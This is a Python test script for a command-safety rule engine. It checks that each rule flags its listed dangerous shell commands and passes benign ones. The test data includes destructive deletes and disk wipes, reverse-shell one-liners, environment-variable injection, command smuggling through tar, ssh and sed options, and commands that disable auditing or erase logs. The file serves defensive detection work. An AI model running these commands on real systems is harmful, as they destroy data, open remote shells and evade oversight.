#!/usr/bin/env python3
"""Commands through the analysis into the real rules in the jailed runner: each rule that looks at
commands fires on what its row of the design names, and not on its neighbours.

usage: rules.py path/to/command-analyse path/to/redbutton-runner
"""
import copy
import pathlib
import sys

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path[:0] = [str(ROOT / "tests" / "lua"), str(ROOT / "tests" / "command")]

from analysis import analyse, impacts  # noqa: E402
from rules_runner import LIB, RULES, ask  # noqa: E402

SQL = "mysql -h orders-1 shop -e "

# rule -> (lines that fire, lines that do not)
ROWS = {
    "FS-001": (["rm -rf /data", "rm -r /var", "sudo nice -n 5 rm -rf /srv/../data//", "find /data -delete", "rm -f /etc",
                "env LANG=C timeout 5 rm --recursive --force /", "bash -c 'rm -rf /data'", "ssh web-1 rm -rf /data",
                "sh -ec 'sudo rm -rf /usr'", "su root -c 'rm -rf /boot'", "busybox rm -rf /etc", "rm --recurs /data", "rm -rf ../../data",
                "kubectl exec web-1 -- rm -rf /data", "find /data -exec rm -rf '{}' +"],
               ["rm -rf /srv/shop/releases/40", "rm /data", "ls -R /data", "rm -rf /data-old", "rm -r data"]),
    "FS-002": (["rm -rf '$X/'", "rm -rf ''", "rm -rf '/srv/*'", "xargs rm -rf", "find /srv/shop -exec rm -r '{}' ';'", "rm -r '~'", "rm -rf /",
                "rm -rf '/srv/${X}/*'", "rm -rf /srv/../.."],
               ["rm -rf /srv/shop/old", "rm '/srv/shop/*.tmp'", "grep -r x '/srv/*'"]),
    "FS-003": (["find /srv/shop -delete", "find /srv -exec chmod 600 '{}' +", "find /srv -exec frob '{}' ';'", "xargs kill", "find . -fprintf /tmp/x %p",
                "find . -execdir rm '{}' ';'", "sudo find . -ok rm '{}' ';'", "xargs -n 1 -P 4 frob", "find / -fls /tmp/x"],
               ["find /srv -name x", "find /srv -name '*.log' -exec grep -l x '{}' +", "rm /srv/a", "find /srv -type f -mtime +3 -print0"]),
    "FS-005": (["tee /etc/cron.d/shop", "cp x /etc/hosts", "cp shadow /etc", "mv x /usr/lib/systemd/system/x.service", "sed -i s/a/b/ /etc/fstab",
                "dd of=/boot/vmlinuz if=/dev/zero", "truncate -s 0 /etc/hosts", "ln -sf /srv/x /etc/localtime", "install -m 600 x /root/.ssh/id_rsa",
                "rsync -a /srv/shop/ /etc/", "tar -xf x.tar -C /usr", "tee /srv/../etc/ld.so.preload", "curl -o /etc/motd https://x.example/a",
                "wget -O /usr/bin/fix https://x.example/a", "sort -o /etc/hosts x", "chmod 600 /etc/shadow", "crontab /srv/shop/table",
                "git -C /etc commit -m x", "patch /etc/hosts", "touch /etc/nologin", "mkdir /etc/systemd/system/x.d", "rm -f /etc/passwd"],
               ["cat /etc/hosts", "tee /srv/shop/x", "cp /etc/hosts /srv/shop/hosts", "grep -r x /etc", "diff /etc/hosts /etc/hosts.old"]),
    "FS-006": (["mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/sdb", "dd if=/dev/zero of=/dev/sdb", "wipefs -a /dev/sdb", "lvremove vg0/data", "fdisk /dev/sdb",
                "parted /dev/sdb mklabel gpt", "umount /data", "umount -a", "tee /dev/sda", "cp x /dev/nvme0n1", "mdadm --stop /dev/md0", "shred /dev/sdb",
                "blkdiscard /dev/sdb", "cryptsetup luksFormat /dev/sdb", "mkswap /dev/sdb2", "zpool destroy tank", "vgremove vg0"],
               ["umount /mnt/stick", "blkid /dev/sdb", "fdisk -l", "lsblk", "lvs", "mount", "dd if=/srv/a of=/dev/null", "df -h", "wipefs /dev/sdb"]),
    "EXEC-001": (["/tmp/x", "./x", "nice /opt/x/y", "env ./ls"], ["ls", "/usr/bin/ls", "nice /bin/ls"]),
    "EXEC-002": (["tar -cf x --checkpoint-action=exec=sh .", "tar xf x --to-command=sh", "tar -I /tmp/x -xf y", "ssh -o ProxyCommand=sh h", "ssh -oLocalCommand=x h",
                  "git -c core.pager=sh log", "rsync -e 'sh -c id' a b", "man -P sh ls", "sort --compress-program=sh x", "scp -S sh a b", "split --filter=sh x",
                  "sed '1e id' /etc/hosts", "sed s/a/b/e x", "apt-get -o APT::Update::Pre-Invoke::=id update", "kubectl frob x", "psql -X -c '\\! id'",
                  "install --strip-program=/tmp/x a b", "git ls-remote --upload-pack=/tmp/x .", "curl --engine x https://a.example", "strace -o '|sh' ls",
                  "tar cf host:/x .", "dpkg --pre-invoke=id -i x", "su -s /tmp/x root", "zip x.zip a -TT sh"],
                 ["tar -cf /srv/shop/x.tar .", "rsync -a a b", "git --no-pager log", "sed -n 1p /etc/hosts"]),
    "EXEC-003": (["/lib64/ld-linux-x86-64.so.2 /tmp/x", "/lib/ld.so /bin/rm x", "perl -e exec", "python3 -c 'import os'", "ruby -e x", "node --eval x", "awk 'BEGIN{system(1)}'",
                  "nice perl -ne x", "php -r x", "python3.11 -cx"],
                 ["python3 /srv/shop/x.py", "ldconfig", "ldd x"]),
    "EXEC-004": (["nohup rebuild", "sudo setsid -f rebuild", "systemd-run --on-active=60 rebuild", "at now", "batch", "crontab -e", "tmux new", "screen -dm x", "sudo -b rebuild",
                  "ssh -f web-1 rebuild", "start-stop-daemon --start x"],
                 ["crontab -l", "atq", "timeout 5 rebuild"]),
    "EXEC-005": (["env LD_PRELOAD=/tmp/x.so ls", "env -i BASH_ENV=/tmp/x bash -c ls", "sudo LD_LIBRARY_PATH=/tmp ls", "env PATH=/tmp:/bin ls", "env 'BASH_FUNC_ls%%=() { id; }' ls",
                  "nice env GCONV_PATH=. iconv", "env PYTHONPATH=. python3 x.py", "env PERL5OPT=-Mx perl x", "env NODE_OPTIONS=-r x", "env GIT_SSH_COMMAND=x git pull",
                  "env PAGER=sh man ls", "env EDITOR=sh crontab -e", "sudo --preserve-env=LD_PRELOAD ls", "env HOME=/tmp/x git --no-pager log", "strace -E LD_PRELOAD=x ls"],
                 ["env LANG=C ls", "env PATH=/usr/bin:/bin ls", "env -u LD_PRELOAD ls"]),
    "EXEC-008": (["bash", "sudo -i", "sudo -s", "su -", "mysql shop", "psql shop", "python3", "python3 -", "kubectl exec -it web-1 -- sh", "kubectl attach web-1", "ssh web-1", "vi /srv/x",
                  "less /srv/x", "man ls", "redis-cli", "docker exec -it web sh", "top", "sqlite3 x.db", "chroot /srv/root", "visudo", "gdb", "telnet web-1", "bash -i", "sh -s",
                  "systemctl edit nginx", "kubectl edit deploy web", "nsenter -t 1 -m", "crontab -e", "fish"],
                 ["bash -c ls", "mysql -e 'select 1'", "top -b -n 1", "sudo ls"]),
    "K8S-001": (["kubectl delete ns shop", "kubectl delete pvc/data-0", "kubectl delete pods --all", "kubectl delete job x -A", "kubectl delete job -l=", "kubectl delete -f x.yaml",
                 "kubectl delete node n1", "kubectl delete crd x.example.com", "sudo kubectl --context main -n shop delete pv pv-1", "kubectl delete deploy,ns x"],
                ["kubectl -n shop delete job x", "kubectl get ns", "kubectl -n shop delete pod node"]),
    "K8S-002": (["kubectl -n shop scale deploy/web --replicas=0", "kubectl scale --current-replicas=10 --replicas=4 deploy web", "kubectl scale deploy web --replicas 4",
                 "kubectl delete deploy web", "kubectl rollout restart deploy/a deploy/b", "kubectl rollout restart deploy", "kubectl delete sts/db"],
                ["kubectl scale --current-replicas=10 --replicas=5 deploy/web", "kubectl rollout restart deploy/a", "kubectl delete pod web-1"]),
    "K8S-003": (["kubectl drain n1 n2", "kubectl drain -l zone=a", "kubectl cordon n1 n2", "kubectl taint nodes n1 n2 x=y:NoExecute", "kubectl taint nodes --all x=y:NoExecute"],
                ["kubectl drain n1", "kubectl uncordon n1", "kubectl get nodes", "kubectl taint nodes n1 x=y:NoSchedule"]),
    "K8S-004": (["kubectl apply -f x.yaml", "kubectl replace -f x.yaml", "kubectl patch deploy web -p '{}'", "kubectl edit deploy web", "kubectl create -f x.yaml", "kubectl set image deploy/web web=x:2",
                 "kubectl label node n1 a=b", "kubectl apply -k ."],
                ["kubectl -n shop scale deploy/web --replicas=3", "kubectl apply -f x.yaml --dry-run=client", "kubectl get -f x.yaml"]),
    "K8S-005": (["kubectl exec web-1 -- ls", "kubectl attach web-1", "kubectl cp web-1:/x /srv/x", "kubectl port-forward web-1 80", "kubectl debug web-1", "kubectl proxy"],
                ["kubectl logs web-1", "docker exec web ls", "kubectl describe pod web-1"]),
    "K8S-007": (["kubectl create rolebinding ops --role=x", "kubectl delete networkpolicies x", "kubectl get secret x -o yaml", "kubectl auth reconcile -f x", "kubectl delete validatingwebhookconfiguration x",
                 "kubectl create secret generic x", "kubectl describe secret x", "kubectl certificate approve x", "kubectl patch clusterrole x -p y", "kubectl delete crd x"],
                ["kubectl get role x", "kubectl get secrets", "kubectl delete pod x"]),
    "DB-001": ([SQL + "'drop table orders'", SQL + "'TRUNCATE orders'", "mysqladmin drop shop", "psql -X -P pager=off -c 'drop schema x cascade'", SQL + "'alter table t drop partition p1'",
                SQL + "'select 1; drop database shop'", "sqlite3 x.db 'drop table t'", "dropdb shop", "mongosh --eval 'db.dropDatabase()'", "kubectl exec db-0 -- mysql -e 'drop table t'",
                "bash -c \"mysql -e 'drop table t'\"", SQL + "'/* x */ drop /* y */ table t'"],
               [SQL + "'create table x (a int)'", "truncate -s 0 /srv/x", SQL + "'select \"drop table t\"'"]),
    "DB-002": ([SQL + "'update orders set a=1'", SQL + "'delete from orders'", SQL + "'delete from orders where 1=1'", SQL + "'DELETE FROM shop.orders WHERE true'",
                "psql -c \"update t set a = 1 where 'a'='a'\"", SQL + "'delete from t where id = 3 or 1=1'", SQL + "'begin; delete from t; commit'", SQL + "'update t set a=1 limit 10'",
                "mongosh --eval 'db.t.deleteMany({})'", SQL + "'update t set a=1 where id = id'"],
               [SQL + "'update orders set a=1 where id=3'", SQL + "'select * from orders'"]),
    "DB-003": ([SQL + "'delete from t where id < 3'", SQL + "'update t set a=1 where id=4 limit 5000'"], [SQL + "'delete from t where id < 3 limit 500'", "pt-archiver --source x", "redis-cli del a"]),
    "DB-004": (["redis-cli flushall", "redis-cli -h cache-1 FLUSHDB", "redis-cli config set maxmemory 1", "redis-cli shutdown", SQL + "'set global max_connections=1'", SQL + "'kill all'",
                "mysqladmin shutdown", "psql -c 'alter system set x=1'", "psql -c 'select pg_terminate_backend(pid) from pg_stat_activity'", SQL + "'flush tables with read lock'",
                SQL + "'reset master'", SQL + "'set @@global.x=1'", "redis-cli client kill type normal", SQL + "'shutdown'", SQL + "'purge binary logs to \"x\"'"],
               [SQL + "'kill 4711'", "redis-cli info", "systemctl stop x", "redis-cli config get maxmemory"]),
    "DB-005": ([SQL + "'alter table orders add column x int'", "psql -c 'alter table t alter column a type text'"],
               ["gh-ost --table=orders", SQL + "'alter table t add index (a), algorithm=inplace, lock=none'", SQL + "'create table t (a int)'"]),
    "DB-006": (["psql -c '\\! id'", "psql -c \"copy t from program 'id'\"", SQL + "'select * from t into outfile \"/tmp/x\"'", SQL + "'select load_file(\"/etc/passwd\")'", SQL + "'\\! id'", SQL + "'system id'",
                "sqlite3 x.db '.shell id'", SQL + "'load data infile \"x\" into table t'", "sqlcmd -Q \"exec xp_cmdshell 'dir'\"", SQL + "'select 1\nsource /tmp/x'", "psql -c \"copy t to '/tmp/x'\""],
               [SQL + "'update t set a=1 where id=1'", "tar -I x -cf y z", "psql -c 'copy t to stdout'"]),
    "NET-001": (["dpkg -i https://x.example/a.deb", "apt-get install https://x.example/a.deb", "rpm -i https://x.example/a.rpm", "pip install https://x.example/a.whl", "kubectl apply -f https://x.example/a.yaml",
                 "pip install git+https://x.example/a", "bash https://x.example/a.sh"],
                ["apt-get install nginx", "curl -O https://x.example/a"]),
    "NET-003": (["socat exec:sh tcp:203.0.113.9:443", "nc -e /bin/sh 203.0.113.9 443", "ncat --sh-exec sh x 1", "nc -lp 4444 -e sh", "socat TCP-LISTEN:1 SYSTEM:sh"], ["nc -z web-1 80", "socat - tcp:web-1:80"]),
    "NET-004": (["iptables -F", "iptables -P INPUT DROP", "ip link set eth0 down", "ip route del 10.0.0.0/8", "nft flush ruleset", "ifdown eth0", "ifconfig eth0 down", "route del default", "ufw disable",
                 "tc qdisc add dev eth0 root netem loss 5%", "rndc reload", "nsupdate x", "iptables -t nat -A PREROUTING -j DROP", "ip6tables -X", "nmcli con down x", "conntrack -F",
                 "iptables-restore x", "resolvectl dns eth0 1.1.1.1", "ipvsadm -C"],
                ["iptables -L -n", "ip addr", "ip route show", "nc -z web-1 80", "ss -tlnp", "ping -c 1 web-1", "nft list ruleset", "ip -s link show eth0", "dig web-1"]),
    "PRIV-001": (["useradd eve", "visudo", "tee -a /srv/shop/.ssh/authorized_keys", "chmod u+s /srv/x", "chmod 4755 /srv/x", "tee /etc/pam.d/sudo", SQL + "'grant all on shop.* to x'", "chmod 777 /srv/x",
                  "chmod o+w /srv/x", "chown -R li /usr/lib", "chmod -R go-w /var", "usermod -aG wheel eve", "passwd root", "gpasswd -a eve docker", "setcap cap_net_raw+ep /srv/x", "tee /etc/sudoers.d/x",
                  SQL + "'create user x'", "install -m 4755 a /srv/x", "chmod a+rwx /srv/x", "chown root /etc/shadow"],
                 ["getent passwd", "chmod 640 /srv/shop/x", "chown -R shop /srv/shop", "id li"]),
    "PRIV-003": (["sudo nsenter -t 1 -n ip addr", "chroot /srv/root ls", "unshare -r id", "bwrap x", "ip netns exec x ls"], ["sudo nice timeout 5 ls"]),
    "PRIV-004": (["docker run --privileged -v /:/host debian", "docker run --pid=host x", "docker run --net host x", "docker run -v /var/run/docker.sock:/x y", "podman run --mount type=bind,source=/,target=/x y",
                  "curl --unix-socket /var/run/docker.sock http://x/containers/json", "docker create --cap-add SYS_ADMIN x", "docker -H tcp://x ps"],
                 ["docker run x", "docker run -v data:/x y", "docker ps"]),
    "SYS-001": (["reboot", "shutdown -h now", "init 6", "systemctl reboot", "systemctl stop mysqld.service", "systemctl disable --now nginx", "systemctl mask mysqld", "pkill java", "kill -9 -1", "killall nginx",
                 "systemctl stop 'my*'", "service mysqld stop", "halt", "systemctl kill nginx", "xargs kill -9", "systemctl isolate rescue.target", "telinit 0", "poweroff", "kill -s KILL -- -1"],
                ["systemctl stop reports", "systemctl restart nginx", "kill 4711", "kill -HUP 4711", "systemctl reload nginx", "systemctl status mysqld"]),
    "SYS-002": (["sysctl -w vm.swappiness=1", "sysctl vm.swappiness=1", "tee /proc/sysrq-trigger", "prlimit -p 1 --nofile=5", "modprobe x", "rmmod x", "sysctl -p", "renice 5 -p 1", "tee /sys/block/sda/queue/scheduler",
                 "tee /etc/sysctl.d/x", "swapoff -a", "taskset -p 3 1", "insmod x.ko", "ionice -c 3 -p 1", "chrt -p 5 1"],
                ["sysctl vm.swappiness", "cat /proc/1/status", "lsmod", "sysctl -a", "taskset -p 1"]),
    "SYS-003": (["systemctl stop auditd", "amtool silence add x", "tee /etc/sudo.conf", "pkill redbuttond", "date -s 12:00", "systemctl mask chronyd.service", "auditctl -D", "journalctl --vacuum-time=1s", "rcm approve 1",
                 "timedatectl set-ntp false", "hwclock -w", "killall rsyslog", "tee /etc/audit/auditd.conf", "rm /var/log/audit/audit.log", "dmesg -C", "ntpdate x", "journalctl --rotate",
                 "systemctl disable rsyslog", "rm -r /var/lib/redbutton"],
                ["ausearch -m x", "systemctl start auditd", "systemctl stop reports", "date", "journalctl -u nginx", "timedatectl"]),
    "SCOPE-001": (["kubectl rollout restart deploy --all", "kubectl label pods -A x=y", "kubectl delete pods --all"], ["kubectl get pods -A", "kubectl delete pod x"]),
    "SECRET-001": (["mysql -phunter2 -e 'select 1'", "curl -u a:hunter22 https://x.example", "curl -H 'Authorization: Bearer abcdefgh12345' https://x.example", "psql postgres://a:hunter2@db/x -c 'select 1'",
                    "redis-cli -a hunter2 info", "frob --password=hunter2"],
                   ["mysql --defaults-file=/run/credentials/x -e 'select 1'", "git checkout 3b18e512dba79e4c8300dd08aeb37f8e728b8dad", "journalctl --since=2026-01-05T08:00:00 -u nginx", "frob --password=file:/run/x"]),
    "TEXT-001": (["l\u0455 /srv", "cat '/srv/\u202egpj.exe'", "echo '\x1b[2J'", "ls\u200b"], ["cat /srv/\u4e2d\u6587", "echo 'a b'"]),
    "GRAY-001": (["systemctl restart shop", "frob"], ["systemctl status shop"]),
    "OBS-001": (["systemctl restart shop"], ["journalctl -u shop"]),
    "OBS-002": (["rm /srv/x"], ["ls /srv/x"]),
    "ROLL-001": (["rm /srv/x"], ["ls /srv/x"]),
    "SCOPE-002": (["rm /srv/x"], ["ls /srv/x"]),
    "SCOPE-003": (["rm /srv/x"], ["ls /srv/x"]),
}
# What these rules need besides a command.
REQUESTS = {
    "GRAY-001": {"batches": [], "target_total": 500}, "OBS-001": {"verification": []}, "ROLL-001": {"rollback": []},
}
WHOLE = {"K8S-002", "K8S-003", "GRAY-001", "OBS-001", "OBS-002", "ROLL-001", "SCOPE-002", "SCOPE-003"}
NOT_BY_COMMAND = {"CONF-001", "CONF-003", "EMG-001", "REL-001", "REL-002", "TEXT-002", "TIME-001", "TIME-005"}


def with_request(given, rule):
    request = given["request"]
    request.update(REQUESTS.get(rule, {}))
    if rule == "SCOPE-002":
        request["service_total"] = 100
        request["batches"] = [{**request["batches"][0], "targets": 100}]
    elif rule == "SCOPE-003":
        request["batches"] = [{**request["batches"][0], "zones": ["a", "b"]}]
    elif rule == "OBS-002":
        given["context"]["incidents"] = [{"id": "INC-1", "object": "svc:shop", "severity": "2", "linked": False}]
    return given


def firing(runner, clean, rule, answers):
    """Which of the answers, as steps of one change, the rule finds something in."""
    script = {"file": f"{rule}.lua", "script": (RULES / f"{rule}.lua").read_text()}
    given = with_request(copy.deepcopy(clean), rule)
    given["steps"] = [{**given["steps"][0], "seq": seq, "commands": answer["commands"], "texts": answer["texts"], "secrets": answer["secrets"]}
                      for seq, answer in enumerate(answers, 1)]
    said = ask(runner, {"verb": "rules", "rules": [script], "modules": LIB, "input": given})
    assert said["ok"] and not said["errors"], said
    return {row.get("step", 0) or 1 for row in said["findings"] if row["rule"] == rule}


def fired(runner, clean, rule, answers):
    """Rules that look at the change as a whole are asked for each alone."""
    if rule in WHOLE:
        return [bool(firing(runner, clean, rule, [answer])) for answer in answers]
    found = firing(runner, clean, rule, answers)
    return [seq in found for seq in range(1, len(answers) + 1)]


def main(argv):
    program, runner = argv[1:3]
    clean = ask(runner, {"verb": "rules_input"})["input"]
    files = {path.stem for path in RULES.glob("*-[0-9][0-9][0-9].lua")}
    failed = [f"{rule} has no row here" for rule in sorted(files - set(ROWS) - NOT_BY_COMMAND)]
    checked = 0
    for rule, (loud, quiet) in ROWS.items():
        answers = analyse(program, loud + quiet)
        for line, answer in zip(loud + quiet, answers):
            if "error" in answer:
                failed.append(f"{rule}: {line!r}: {answer['error']}, {answer['place']}")
        if any("error" in answer for answer in answers):
            continue
        for line, answer, is_found in zip(loud + quiet, answers, fired(runner, clean, rule, answers)):
            checked += 1
            if is_found != (line in loud):
                failed.append(f"{rule} {'fires on' if is_found else 'is quiet on'} {line!r}: "
                              + "; ".join(f"{i['verb']} {i['kind']} {i['object']} {i['scope']} {','.join(i['flags'])}" for i in impacts(answer)))
    for line in failed:
        print("FAILED", line)
    print(f"{checked} commands through {len(ROWS)} rules, {len(failed)} wrong")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
